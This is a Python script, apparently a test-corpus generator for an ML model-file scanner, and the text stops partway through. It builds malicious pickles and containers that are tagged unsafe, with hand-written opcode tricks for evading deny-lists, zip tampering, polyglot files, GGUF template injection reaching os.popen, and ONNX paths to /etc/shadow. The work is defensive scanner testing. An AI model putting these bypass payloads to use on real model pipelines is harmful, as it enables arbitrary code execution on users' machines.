# ruff: noqa: E501
"""Generate the `mlsec scan` red-team corpus (unsafe bypass classes + realistic benign twins).

Bypass classes are modelled on publicly reported issues of picklescan (GHSA advisories for
pkgutil.resolve_name, importlib, timeit, ensurepip._run_pip, zip flag/CRC tampering, 7z, broken
pickles, memo confusion #14/#22), modelscan (#338 alternative primitives, #330 allow-listed module
attribute tricks, #311 STACK_GLOBAL with classic string opcodes), fickling and ModelAudit (false
positives on plain checkpoints, errors on tampered zips).  All samples are written here opcode by
opcode; none is copied.  Run with the core venv python; torch-made benign files need /tmp/rtorch
or /tmp/torchenv (torch==2.13.0) and are skipped with a note otherwise.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from common import (
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    OBJ,
    POP,
    PROTO,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE2,
    Registry,
    binget,
    binint,
    binput,
    binstring,
    binunicode,
    call,
    frame4,
    get0,
    glob,
    marker_cmd,
    p2,
    p4,
    put0,
    s,
    sglob,
    string0,
    tup,
    unicode0,
)

R = Registry("scan")


def U(cid: str, rel: str, data: bytes, desc: str, klass: str) -> None:
    R.write(rel, data)
    R.add(cid, rel, "unsafe", desc, klass)


def S(cid: str, rel: str, data: bytes | str, desc: str, klass: str) -> None:
    R.write(rel, data)
    R.add(cid, rel, "safe", desc, klass)


def direct(cid: str, mod: str, name: str, *args: bytes, proto: int = 4, klass: str = "callable") -> None:
    """One REDUCE of mod.name(*args): the deny-list-gap class (picklescan/modelscan advisories)."""
    if proto >= 4:  # noqa: SIM108
        body = p4(call(sglob(mod, name), *args))
    else:
        body = p2(call(glob(mod, name), *args))
    U(cid, f"callables/{cid}.pkl", body, f"{mod}.{name}(...)", klass)


def malicious_pickle(cid: str, proto: int = 2) -> bytes:
    """A plain os.system(marker) pickle used inside containers."""
    if proto >= 4:
        return frame4(call(sglob("os", "system"), s(marker_cmd(cid))))
    return p2(call(glob("os", "system"), binunicode(marker_cmd(cid))))


def benign_pickle(proto: int = 2) -> bytes:
    return pickle.dumps({"epoch": 3, "lr": 0.001, "names": ["a", "b"]}, protocol=proto)


# =============================================================================================
# 1. Callables a deny-list forgets (each one alone runs code / touches fs / network)
# =============================================================================================
def gen_callables() -> None:
    m = lambda cid: s(marker_cmd(cid))  # noqa: E731
    src = lambda cid: s(f"__import__('os').system({marker_cmd(cid)!r})")  # noqa: E731
    direct("c01-os-system-p0", "os", "system", binunicode(marker_cmd("c01")), proto=2)
    direct("c02-runpy-run-code", "runpy", "_run_code", src("c02"), EMPTY_DICT)
    direct("c03-pkgutil-resolve", "pkgutil", "resolve_name", s("os:system"))
    # pkgutil.resolve_name result called: resolve('os:system')(cmd)
    U(
        "c04-pkgutil-resolve-call",
        "callables/c04.pkl",
        p4(call(call(sglob("pkgutil", "resolve_name"), s("os:system")), m("c04"))),
        "pkgutil.resolve_name('os:system')(cmd)",
        "indirection",
    )
    interp = call(sglob("code", "InteractiveInterpreter"))
    U(
        "c05-code-interp",
        "callables/c05.pkl",
        p4(call(sglob("code", "InteractiveInterpreter.runsource"), interp, src("c05"))),
        "code.InteractiveInterpreter().runsource(src) via dotted name",
        "callable",
    )
    direct("c06-torch-hub-load", "torch.hub", "load", s("attacker/repo"), s("m"), proto=2)
    direct("c07-cprofile-run", "cProfile", "run", src("c07"))
    prof = call(sglob("profile", "Profile"))
    U(
        "c08-profile-runctx",
        "callables/c08.pkl",
        p4(call(sglob("profile", "Profile.runctx"), prof, src("c08"), EMPTY_DICT, EMPTY_DICT)),
        "profile.Profile().runctx(src)",
        "callable",
    )
    direct("c09-timeit", "timeit", "timeit", src("c09"))
    direct("c10-pdb-run", "pdb", "run", src("c10"))
    tr = call(sglob("trace", "Trace"))
    U(
        "c11-trace-runctx",
        "callables/c11.pkl",
        p4(call(sglob("trace", "Trace.runctx"), tr, src("c11"), EMPTY_DICT, EMPTY_DICT)),
        "trace.Trace().runctx(src)",
        "callable",
    )
    direct("c12-idlelib-calltip", "idlelib.calltip", "get_entity", src("c12"))
    direct("c13-lib2to3-pgen", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", NONE, NONE, src("c13"))
    # operator chains: attrgetter('system')(importlib.import_module('os'))(cmd)
    osmod = call(sglob("importlib", "import_module"), s("os"))
    U(
        "c14-attrgetter-chain",
        "callables/c14.pkl",
        p4(call(call(call(sglob("_operator", "attrgetter"), s("system")), osmod), m("c14"))),
        "_operator.attrgetter('system')(import_module('os'))(cmd)",
        "indirection",
    )
    U(
        "c15-methodcaller",
        "callables/c15.pkl",
        p4(call(call(sglob("operator", "methodcaller"), s("system"), m("c15")), osmod)),
        "operator.methodcaller('system', cmd)(os)",
        "indirection",
    )
    U(
        "c16-functools-partial",
        "callables/c16.pkl",
        p4(call(call(sglob("functools", "partial"), sglob("builtins", "eval"), src("c16")))),
        "functools.partial(eval, src)()",
        "indirection",
    )
    imp = call(sglob("builtins", "__import__"), s("os"))
    U(
        "c17-getattr-import",
        "callables/c17.pkl",
        p4(call(call(sglob("builtins", "getattr"), imp, s("system")), m("c17"))),
        "getattr(__import__('os'), 'system')(cmd)",
        "indirection",
    )
    direct("c18-import-module", "importlib", "import_module", s("os"))
    direct("c19-ctypes-cdll", "ctypes", "CDLL", s("libc.so.6"))
    direct("c20-shutil-rmtree", "shutil", "rmtree", s("/tmp/mlsec-redteam-does-not-exist"), klass="filesystem")
    direct("c21-posixpath-os", "posixpath", "os.system", m("c21"), klass="dotted-alias")
    direct("c22-ntpath-os", "ntpath", "os.system", m("c22"), klass="dotted-alias")
    direct("c23-builtins-dotted-exec", "builtins", "print.__self__.exec", src("c23"), klass="dotted-alias")
    inner = malicious_pickle("c24")
    direct("c24-pickle-loads-nested", "_pickle", "loads", b"C" + bytes([len(inner)]) + inner, klass="nested")
    direct("c25-pickle-loads-p2", "pickle", "loads", b"C" + bytes([len(inner)]) + inner, proto=2, klass="nested")
    # copyreg._reconstructor(subprocess.Popen, subprocess.Popen, argv): Popen.__init__(obj, argv)
    U(
        "c26-copyreg-odd-base",
        "callables/c26.pkl",
        p2(
            call(
                glob("copyreg", "_reconstructor"),
                glob("subprocess", "Popen"),
                glob("subprocess", "Popen"),
                MARK + binunicode("sh") + binunicode("-c") + binunicode(marker_cmd("c26")) + b"l",
            )
        ),
        "copyreg._reconstructor with subprocess.Popen as base",
        "odd-base",
    )
    direct("c27-numpy-testing-runstring", "numpy.testing._private.utils", "runstring", src("c27"), EMPTY_DICT)
    direct("c28-numpy-f2py-myeval", "numpy.f2py.crackfortran", "myeval", src("c28"), EMPTY_DICT, EMPTY_DICT)
    direct("c29-pandas-read-pickle", "pandas", "read_pickle", s("http://127.0.0.1:9/x.pkl"), klass="nested")
    direct("c30-torch-load-nested", "torch", "load", s("/tmp/x.pt"), klass="nested")
    direct("c31-asyncio-subprocess", "asyncio.subprocess", "create_subprocess_shell", m("c31"))
    direct("c32-subprocess-getoutput", "subprocess", "getoutput", m("c32"), proto=2)
    direct("c33-webbrowser", "webbrowser", "open", s("http://127.0.0.1:9/"), klass="network")
    direct("c34-smtplib", "smtplib", "SMTP", s("127.0.0.1"), klass="network")
    direct("c35-socket", "socket", "create_connection", tup(s("127.0.0.1"), b"K\x09"), klass="network")
    direct("c36-urlopen", "urllib.request", "urlopen", s("http://127.0.0.1:9/"), klass="network")
    direct(
        "c37-spawnv-passfds",
        "multiprocessing.util",
        "spawnv_passfds",
        s("/bin/sh"),
        tup(s("sh"), s("-c"), m("c37")),
        EMPTY_TUPLE,
    )
    direct("c38-collect-env-run", "torch.utils.collect_env", "run", m("c38"))
    direct("c39-ensurepip", "ensurepip", "_run_pip", MARK + s("--version") + b"l")
    direct("c40-mailcap", "mailcap", "findmatch", EMPTY_DICT, s("text/plain"))
    code_obj = compile(marker_cmd("c41"), "<x>", "eval")  # a constant string expr; never run
    import marshal

    blob = marshal.dumps(code_obj)
    direct("c41-marshal-loads", "marshal", "loads", b"C" + bytes([len(blob)]) + blob)
    direct("c42-pip-main", "pip", "main", MARK + s("install") + s("mlsec-redteam-nonexistent") + b"l")
    direct("c43-py2-builtin-eval", "__builtin__", "eval", binunicode("1"), proto=2, klass="py2-alias")
    direct("c44-py2-commands", "commands", "getoutput", binunicode(marker_cmd("c44")), proto=2, klass="py2-alias")
    direct("c45-posixsubprocess", "_posixsubprocess", "fork_exec", NONE)
    bdb = call(sglob("bdb", "Bdb"))
    U(
        "c46-bdb-run",
        "callables/c46.pkl",
        p4(call(sglob("bdb", "Bdb.run"), bdb, src("c46"))),
        "bdb.Bdb().run(src)",
        "callable",
    )
    direct("c47-doctest-debug", "doctest", "debug_script", src("c47"))
    direct("c48-site-addsitedir", "site", "addsitedir", s("/tmp/mlsec-redteam-pth"))
    direct("c49-logging-dictconfig", "logging.config", "dictConfig", EMPTY_DICT)
    direct("c50-builtins-open", "builtins", "open", s("/tmp/mlsec-redteam-write"), s("w"), klass="filesystem")
    direct("c51-numpy-ctypeslib", "numpy.ctypeslib", "load_library", s("libevil"), s("/tmp"))
    direct("c52-cloudpickle-make-fn", "cloudpickle.cloudpickle", "_builtin_type", s("CodeType"))
    direct("c53-zipimport", "zipimport", "zipimporter", s("/tmp/mlsec-redteam.zip"))
    direct("c54-os-popen-p2", "os", "popen", binunicode(marker_cmd("c54")), proto=2)
    direct("c55-pty-spawn", "pty", "spawn", s("/bin/true"))
    direct("c56-numpy-load", "numpy", "load", s("/tmp/x.npy"), b"\x88", klass="nested")
    direct("c57-joblib-load", "joblib", "load", s("/tmp/x.joblib"), klass="nested")
    direct("c58-types-functiontype", "types", "FunctionType", NONE, EMPTY_DICT)
    direct("c59-sys-modules-dotted", "sys", "modules.get", s("os"), klass="dotted-alias")
    direct("c60-unknown-main", "__main__", "Exploit", klass="unknown-class")


# =============================================================================================
# 2. Encoding / VM tricks around an otherwise obvious os.system
# =============================================================================================
def gen_vm() -> None:
    cmd = lambda cid: s(marker_cmd(cid))  # noqa: E731
    # STACK_GLOBAL fed from memo after POP / DUP
    body = (
        s("os")
        + binput(0)
        + POP
        + s("system")
        + binput(1)
        + POP
        + s("collections")
        + s("OrderedDict")
        + POP
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + tup(cmd("v01"))
        + REDUCE
    )
    U("v01-memo-after-pop", "vm/v01.pkl", p4(body), "STACK_GLOBAL operands from memo after POP", "memo")
    body = s("os") + DUP + POP + s("system") + DUP + POP + STACK_GLOBAL + tup(cmd("v02")) + REDUCE
    U("v02-dup-pop", "vm/v02.pkl", p4(body), "operands survive DUP/POP shuffles", "memo")
    # BINPUT / MEMOIZE mixing (picklescan #14 class): memoize index = len(memo), not a counter
    body = (
        s("os")
        + binput(0)
        + s("system")
        + binput(1)
        + POP
        + POP
        + s("collections")
        + MEMOIZE
        + s("OrderedDict")
        + MEMOIZE
        + POP
        + POP
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + tup(cmd("v03"))
        + REDUCE
    )
    U("v03-memo-binput-memoize-mix", "vm/v03.pkl", p4(body), "BINPUT and MEMOIZE mixed to confuse memo indices", "memo")
    # memo slot overwritten: first benign, then os
    body = (
        s("collections")
        + binput(0)
        + POP
        + s("os")
        + binput(0)
        + POP
        + binget(0)
        + s("system")
        + STACK_GLOBAL
        + tup(cmd("v04"))
        + REDUCE
    )
    U("v04-memo-overwrite", "vm/v04.pkl", p4(body), "memo slot rewritten from benign to 'os'", "memo")
    # protocol 0 text memo PUT/GET and STRING operands to STACK_GLOBAL
    body = (
        string0("os")
        + put0(5)
        + POP
        + get0(5)
        + unicode0("system")
        + STACK_GLOBAL
        + MARK
        + unicode0(marker_cmd("v05"))
        + b"t"
        + REDUCE
    )
    U(
        "v05-put-get-text",
        "vm/v05.pkl",
        PROTO(4) + body + STOP,
        "STRING/UNICODE text opcodes + PUT/GET feed STACK_GLOBAL",
        "encoding",
    )
    body = binstring("subprocess") + binstring("getoutput") + STACK_GLOBAL + tup(binstring(marker_cmd("v06"))) + REDUCE
    U(
        "v06-binstring-stack-global",
        "vm/v06.pkl",
        PROTO(4) + body + STOP,
        "SHORT_BINSTRING operands for STACK_GLOBAL (modelscan #311)",
        "encoding",
    )
    # INST / OBJ / NEWOBJ / NEWOBJ_EX
    U(
        "v07-inst",
        "vm/v07.pkl",
        b"(" + unicode0(marker_cmd("v07")) + b"ios\nsystem\n.",
        "INST opcode, protocol 0",
        "opcode",
    )
    U(
        "v08-obj",
        "vm/v08.pkl",
        p2(MARK + glob("os", "system") + binunicode(marker_cmd("v08")) + OBJ),
        "OBJ opcode",
        "opcode",
    )
    U(
        "v09-newobj",
        "vm/v09.pkl",
        p2(glob("subprocess", "Popen") + tup(binunicode("true")) + NEWOBJ),
        "NEWOBJ on subprocess.Popen",
        "opcode",
    )
    U(
        "v10-newobj-ex",
        "vm/v10.pkl",
        p4(sglob("subprocess", "Popen") + tup(s("true")) + EMPTY_DICT + NEWOBJ_EX),
        "NEWOBJ_EX on subprocess.Popen",
        "opcode",
    )
    # BUILD with __setstate__ on a non-allow-listed class
    U(
        "v11-build-unknown-class",
        "vm/v11.pkl",
        p2(
            glob("mlsec_redteam_pkg.widgets", "Widget")
            + EMPTY_TUPLE
            + NEWOBJ
            + EMPTY_DICT
            + binunicode("x")
            + binint(1)
            + SETITEM
            + BUILD
        ),
        "NEWOBJ + BUILD (__setstate__) of an unknown class",
        "unknown-class",
    )
    # EXT codes (copyreg extension registry is empty by default; a scanner cannot resolve them)
    U(
        "v12-ext1",
        "vm/v12.pkl",
        p2(b"\x82\x07" + tup(binunicode(marker_cmd("v12"))) + REDUCE),
        "EXT1 code as the callable",
        "opcode",
    )
    U(
        "v13-ext4",
        "vm/v13.pkl",
        p2(b"\x84" + struct.pack("<i", 0x7FFF0001) + EMPTY_TUPLE + REDUCE),
        "EXT4 code as the callable",
        "opcode",
    )
    # truncated after payload / trailing garbage / stacked
    full = p2(call(glob("os", "system"), binunicode(marker_cmd("v14"))))
    U("v14-truncated-after-reduce", "vm/v14.pkl", full[:-1], "REDUCE executed, STOP missing (broken stream)", "broken")
    U(
        "v15-garbage-after-reduce",
        "vm/v15.pkl",
        full[:-1] + b"\xff\xfe\x00junk",
        "invalid opcode right after the REDUCE",
        "broken",
    )
    U(
        "v16-stacked-second-bad",
        "vm/v16.pkl",
        benign_pickle(2) + malicious_pickle("v16"),
        "benign pickle followed by a malicious one",
        "stacked",
    )
    U(
        "v17-stacked-p4-frames",
        "vm/v17.pkl",
        pickle.dumps([1, 2, 3], protocol=4) + malicious_pickle("v17", 4),
        "two framed protocol-4 pickles, second bad",
        "stacked",
    )
    U(
        "v18-benign-then-garbage",
        "vm/v18.pkl",
        benign_pickle(2) + b"\x00\x01GARBAGE" * 3,
        "trailing garbage after STOP (fail closed)",
        "broken",
    )
    # non-constant STACK_GLOBAL operand made by an allow-listed call: _codecs.encode('bf','rot13') == 'os'
    body = call(sglob("_codecs", "encode"), s("bf"), s("rot13")) + s("system") + STACK_GLOBAL + tup(cmd("v19")) + REDUCE
    U(
        "v19-codecs-rot13-operand",
        "vm/v19.pkl",
        p4(body),
        "module name computed by allow-listed _codecs.encode (rot13)",
        "non-constant",
    )
    # attribute walk off allow-listed names (modelscan #330 class)
    body = sglob("collections", "OrderedDict.__init__.__globals__") + POP + NONE
    U(
        "v20-dotted-off-allowlisted",
        "vm/v20.pkl",
        p4(body),
        "dotted name walking off collections.OrderedDict",
        "dotted-alias",
    )
    body = sglob("torch._utils", "_rebuild_tensor_v2.__globals__") + POP + NONE
    U(
        "v21-dotted-rebuild-globals",
        "vm/v21.pkl",
        p4(body),
        "torch._utils._rebuild_tensor_v2.__globals__",
        "dotted-alias",
    )
    body = sglob("numpy", "__builtins__") + POP + NONE
    U(
        "v22-numpy-builtins-attr",
        "vm/v22.pkl",
        p4(body),
        "numpy.__builtins__ (allow-listed module, non-allow-listed attr)",
        "dotted-alias",
    )
    body = sglob("torch._utils", "os.system") + tup(cmd("v23")) + REDUCE
    U("v23-allowlisted-module-os", "vm/v23.pkl", p4(body), "'torch._utils' + 'os.system'", "dotted-alias")
    # FRAME that lies about its length
    inner = call(sglob("os", "system"), cmd("v24")) + STOP
    U(
        "v24-frame-lie",
        "vm/v24.pkl",
        PROTO(4) + b"\x95" + struct.pack("<Q", 3) + inner,
        "FRAME length shorter than content",
        "broken",
    )
    # payload hidden inside a benign-looking state dict value
    body = (
        EMPTY_DICT + s("state_dict") + EMPTY_DICT + s("w") + call(sglob("os", "system"), cmd("v25")) + SETITEM + SETITEM
    )
    U("v25-nested-in-dict", "vm/v25.pkl", frame4(body), "REDUCE buried as a dict value", "nested")
    # REDUCE result used as BUILD state of allow-listed OrderedDict
    body = (
        sglob("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
        + call(glob("os", "system"), s(marker_cmd("v26")))
        + BUILD
    )
    U("v26-build-state-reduce", "vm/v26.pkl", p4(body), "os.system call as BUILD state of OrderedDict", "nested")
    # persistent id containing a REDUCE (torch uses BINPERSID for storages)
    body = call(sglob("os", "system"), cmd("v27")) + b"Q"
    U("v27-binpersid-payload", "vm/v27.pkl", p4(body), "BINPERSID whose pid is a REDUCE result", "opcode")
    # getattr on an allow-listed class to reach something else
    body = call(sglob("builtins", "getattr"), sglob("collections", "OrderedDict"), s("__class__"))
    U("v28-builtins-getattr", "vm/v28.pkl", p4(body), "builtins.getattr on an allow-listed class", "indirection")
    # sklearn-like class: allow-list first => unknown class fails (policy, not exploit)
    body = p2(glob("sklearn.linear_model._base", "LinearRegression") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD)
    U(
        "v29-sklearn-like-policy",
        "vm/v29.pkl",
        body,
        "sklearn class via the sklearn.* allow-list pattern (policy question)",
        "policy",
    )


# =============================================================================================
# 3. Containers
# =============================================================================================
def torch_zip(members: dict[str, bytes], prefix: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(f"{prefix}/{name}", data)
    return buf.getvalue()


def patch_zip(data: bytes, member: str, how: str) -> bytes:
    """Tamper with a zip the way public picklescan/ModelAudit bypasses did."""
    b = bytearray(data)
    name = member.encode()
    lo = b.find(b"PK\x03\x04")
    while lo != -1:
        nlen = struct.unpack_from("<H", b, lo + 26)[0]
        if bytes(b[lo + 30 : lo + 30 + nlen]) == name:
            break
        lo = b.find(b"PK\x03\x04", lo + 4)
    cd = b.find(b"PK\x01\x02")
    while cd != -1:
        nlen = struct.unpack_from("<H", b, cd + 28)[0]
        if bytes(b[cd + 46 : cd + 46 + nlen]) == name:
            break
        cd = b.find(b"PK\x01\x02", cd + 4)
    if how == "crc":
        struct.pack_into("<I", b, lo + 14, 0xDEADBEEF)
        struct.pack_into("<I", b, cd + 16, 0xDEADBEEF)
    elif how == "flag":
        for off, fo in ((lo, 6), (cd, 8)):
            f = struct.unpack_from("<H", b, off + fo)[0]
            struct.pack_into("<H", b, off + fo, f | 1)
    elif how == "localname":
        nlen = struct.unpack_from("<H", b, lo + 26)[0]
        b[lo + 30 : lo + 30 + nlen] = b"x" * nlen
    return bytes(b)


def gen_containers() -> None:
    good = benign_pickle(2)
    U(
        "z01-torch-renamed-member",
        "containers/z01.pt",
        torch_zip({"data.pkl": good, "version": b"3\n", "extra/optimizer.pkl": malicious_pickle("z01")}),
        "torch zip: malicious pickle in a second member (not data.pkl)",
        "zip",
    )
    U(
        "z02-torch-no-datapkl",
        "containers/z02.pt",
        torch_zip({"weights.pickle": malicious_pickle("z02")}, "model"),
        "zip whose only pickle is named weights.pickle",
        "zip",
    )
    z = torch_zip({"data.pkl": malicious_pickle("z03"), "version": b"3\n"})
    U(
        "z03-crc-tamper",
        "containers/z03.pt",
        patch_zip(z, "archive/data.pkl", "crc"),
        "bad CRC on the malicious data.pkl",
        "zip-tamper",
    )
    z = torch_zip({"data.pkl": malicious_pickle("z04"), "version": b"3\n"})
    U(
        "z04-encryption-flag",
        "containers/z04.pt",
        patch_zip(z, "archive/data.pkl", "flag"),
        "encryption flag bit set on data.pkl",
        "zip-tamper",
    )
    z = torch_zip({"data.pkl": malicious_pickle("z05"), "version": b"3\n"})
    U(
        "z05-local-name-mismatch",
        "containers/z05.pt",
        patch_zip(z, "archive/data.pkl", "localname"),
        "local header name differs from central directory",
        "zip-tamper",
    )
    zbytes = torch_zip({"data.pkl": malicious_pickle("z06")})
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as t:
        ti = tarfile.TarInfo("inner/model.pt")
        ti.size = len(zbytes)
        t.addfile(ti, io.BytesIO(zbytes))
    import py7zr

    p = R.path("containers/z06.7z")
    with py7zr.SevenZipFile(p, "w") as a:
        a.writestr(tbuf.getvalue(), "bundle.tar")
    R.add("z06-zip-in-tar-in-7z", "containers/z06.7z", "unsafe", "zip inside tar inside 7z", "nested-archive")
    p = R.path("containers/z07.7z")
    with py7zr.SevenZipFile(p, "w") as a:
        a.writestr(malicious_pickle("z07"), "model.bin")
    R.add(
        "z07-pickle-in-7z",
        "containers/z07.7z",
        "unsafe",
        "raw pickle inside a 7z (picklescan 7z bypass class)",
        "nested-archive",
    )
    # legacy tar torch format
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as t:
        for name, data in (
            ("sys_info", pickle.dumps({"protocol_version": 1001}, 2)),
            ("pickle", malicious_pickle("z08")),
            ("storages", pickle.dumps(0, 2)),
        ):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
    U(
        "z08-legacy-tar-torch",
        "containers/z08.tar",
        tbuf.getvalue(),
        "legacy tar torch format with a malicious 'pickle' member",
        "legacy",
    )
    # legacy non-zip torch: magic, protocol, sys_info, then the object pickle
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    U(
        "z09-legacy-stacked-torch",
        "containers/z09.pt",
        magic + malicious_pickle("z09"),
        "legacy torch stacked pickles, 4th is malicious",
        "legacy",
    )
    # joblib with each compression
    raw = malicious_pickle("z10")
    U("z10-joblib-zlib", "containers/z10.joblib", zlib.compress(raw), "joblib zlib-compressed pickle", "joblib")
    U("z11-joblib-gzip", "containers/z11.joblib.gz", gzip.compress(malicious_pickle("z11")), "joblib gzip", "joblib")
    U("z12-joblib-bz2", "containers/z12.joblib", bz2.compress(malicious_pickle("z12")), "joblib bz2", "joblib")
    U("z13-joblib-xz", "containers/z13.joblib", lzma.compress(malicious_pickle("z13")), "joblib xz", "joblib")
    U(
        "z14-joblib-lzma",
        "containers/z14.joblib",
        lzma.compress(malicious_pickle("z14"), format=lzma.FORMAT_ALONE),
        "joblib legacy lzma (alone)",
        "joblib",
    )
    # .npy object arrays: v1 / v2 / v3 headers
    for cid, ver in (("z15-npy-object-v1", 1), ("z16-npy-object-v2", 2), ("z17-npy-object-v3", 3)):
        U(
            cid,
            f"containers/{cid}.npy",
            npy_bytes("|O", (1,), malicious_pickle(cid), ver),
            f"object .npy, header v{ver}",
            "npy",
        )
    nbuf = io.BytesIO()
    with zipfile.ZipFile(nbuf, "w") as z:
        z.writestr("weights.npy", npy_bytes("<f4", (2,), b"\x00" * 8, 1))
        z.writestr("meta.npy", npy_bytes("|O", (1,), malicious_pickle("z18"), 1))
    U(
        "z18-npz-object-member",
        "containers/z18.npz",
        nbuf.getvalue(),
        ".npz whose second member is an object array",
        "npy",
    )
    # extension lies
    for cid, name in (
        ("z19-ext-safetensors", "model.safetensors"),
        ("z20-ext-json", "config.json"),
        ("z21-ext-txt", "notes.txt"),
        ("z22-ext-bin", "pytorch_model.bin"),
        ("z23-ext-none-rng", "rng_state"),
        ("z24-ext-png", "preview.png"),
    ):
        U(cid, f"extlies/{cid}/{name}", malicious_pickle(cid), f"pickle named {name}", "extension-lie")
    # safetensors polyglots and lies
    st = safetensors_bytes()
    U(
        "z25-st-append-zip",
        "containers/z25.safetensors",
        st + torch_zip({"data.pkl": malicious_pickle("z25")}),
        "valid safetensors + appended torch zip",
        "polyglot",
    )
    U(
        "z26-st-append-pickle",
        "containers/z26.safetensors",
        st + malicious_pickle("z26"),
        "valid safetensors + appended pickle",
        "polyglot",
    )
    U(
        "z27-st-hole",
        "containers/z27.safetensors",
        safetensors_bytes(hole=True),
        "safetensors with an unreferenced hole between tensors",
        "safetensors-malformed",
    )
    U(
        "z28-st-header-overflow",
        "containers/z28.safetensors",
        struct.pack("<Q", 1 << 40) + b"{}",
        "header length larger than file",
        "safetensors-malformed",
    )
    # Keras .keras with Lambda layer
    kcfg = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "in"}},
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "l",
                        "function": {
                            "class_name": "__lambda__",
                            "config": {
                                "code": "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMEAAAAfABTAKkBTqkAqQHaAXhyAgAAAHICAAAA+gE8bGFtYmRhPg==",
                                "defaults": None,
                                "closure": None,
                            },
                        },
                        "output_shape": None,
                        "arguments": {},
                    },
                },
            ],
        },
    }
    kbuf = io.BytesIO()
    with zipfile.ZipFile(kbuf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-01-01"}))
        z.writestr("config.json", json.dumps(kcfg))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
    U(
        "z29-keras-lambda",
        "containers/z29.keras",
        kbuf.getvalue(),
        ".keras with a Lambda layer (marshalled code)",
        "keras",
    )
    # Keras nested: Lambda inside a Functional sub-model
    kcfg2 = {
        "class_name": "Functional",
        "config": {
            "name": "f",
            "layers": [
                {"class_name": "Sequential", "config": {"name": "inner", "layers": [kcfg["config"]["layers"][1]]}}
            ],
        },
    }
    kbuf = io.BytesIO()
    with zipfile.ZipFile(kbuf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        z.writestr("config.json", json.dumps(kcfg2))
    U("z30-keras-nested-lambda", "containers/z30.keras", kbuf.getvalue(), "Lambda nested in a sub-model", "keras")
    # HF folder with auto_map
    R.write(
        "hf_auto_map/config.json",
        json.dumps(
            {
                "model_type": "custom",
                "architectures": ["MyModel"],
                "auto_map": {"AutoModel": "modeling_my.MyModel", "AutoConfig": "configuration_my.MyConfig"},
            }
        ),
    )
    R.write("hf_auto_map/modeling_my.py", "import torch\nclass MyModel(torch.nn.Module):\n    pass\n")
    R.write("hf_auto_map/model.safetensors", safetensors_bytes())
    R.add(
        "z31-hf-auto-map", "hf_auto_map", "unsafe", "HF folder whose config.json has auto_map (trust_remote_code)", "hf"
    )
    R.write("hf_tok_auto_map/tokenizer_config.json", json.dumps({"auto_map": {"AutoTokenizer": ["tok.MyTok", None]}}))
    R.write("hf_tok_auto_map/config.json", json.dumps({"model_type": "bert"}))
    R.write("hf_tok_auto_map/model.safetensors", safetensors_bytes())
    R.add("z32-hf-tokenizer-auto-map", "hf_tok_auto_map", "unsafe", "auto_map only in tokenizer_config.json", "hf")
    # MLflow cloudpickle model
    R.write(
        "mlflow_model/MLmodel",
        "artifact_path: model\nflavors:\n  python_function:\n    cloudpickle_version: 3.0.0\n"
        "    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    python_version: 3.11.9\n"
        "mlflow_version: 2.16.0\nmodel_uuid: 7d2f0c6e2d3b4a0f9a1e8c7b6a5d4c3b\n",
    )
    R.write("mlflow_model/python_model.pkl", benign_pickle(4))
    R.add(
        "z33-mlflow-cloudpickle",
        "mlflow_model",
        "unsafe",
        "MLflow pyfunc python_model.pkl (cloudpickle flavor)",
        "mlflow",
    )
    # ONNX external data escaping the folder
    R.write("onnx_escape/model.onnx", onnx_bytes("../../../../etc/passwd"))
    R.add(
        "z34-onnx-external-escape",
        "onnx_escape/model.onnx",
        "unsafe",
        "ONNX initializer with external data ../../../../etc/passwd",
        "onnx",
    )
    R.write("onnx_abs/model.onnx", onnx_bytes("/etc/shadow"))
    R.add("z35-onnx-external-abs", "onnx_abs/model.onnx", "unsafe", "ONNX external data with absolute path", "onnx")
    # GGUF chat template injection
    evil = "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for m in messages %}{{ m['content'] }}{% endfor %}"
    U(
        "z36-gguf-ssti",
        "containers/z36.gguf",
        gguf_bytes(evil),
        "GGUF chat template with __class__/__subclasses__ SSTI",
        "gguf",
    )
    evil2 = "{% set x = cycler.__init__.__globals__.os.popen('id').read() %}{{ x }}"
    U(
        "z37-gguf-ssti-globals",
        "containers/z37.gguf",
        gguf_bytes(evil2),
        "GGUF template reaching __globals__.os",
        "gguf",
    )
    # deep nesting zip-in-zip-in-zip with the pickle at the bottom
    data = malicious_pickle("z38")
    for i in range(4):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            z.writestr(f"layer{i}.zip" if i else "model.pkl", data)
        data = b.getvalue()
    U("z38-zip-nesting", "containers/z38.zip", data, "pickle 4 zips deep", "nested-archive")
    # tar.gz of a HF-style folder whose pytorch_model.bin is malicious
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w:gz") as t:
        for name, d in (
            ("m/config.json", b"{}"),
            ("m/pytorch_model.bin", torch_zip({"data.pkl": malicious_pickle("z39")})),
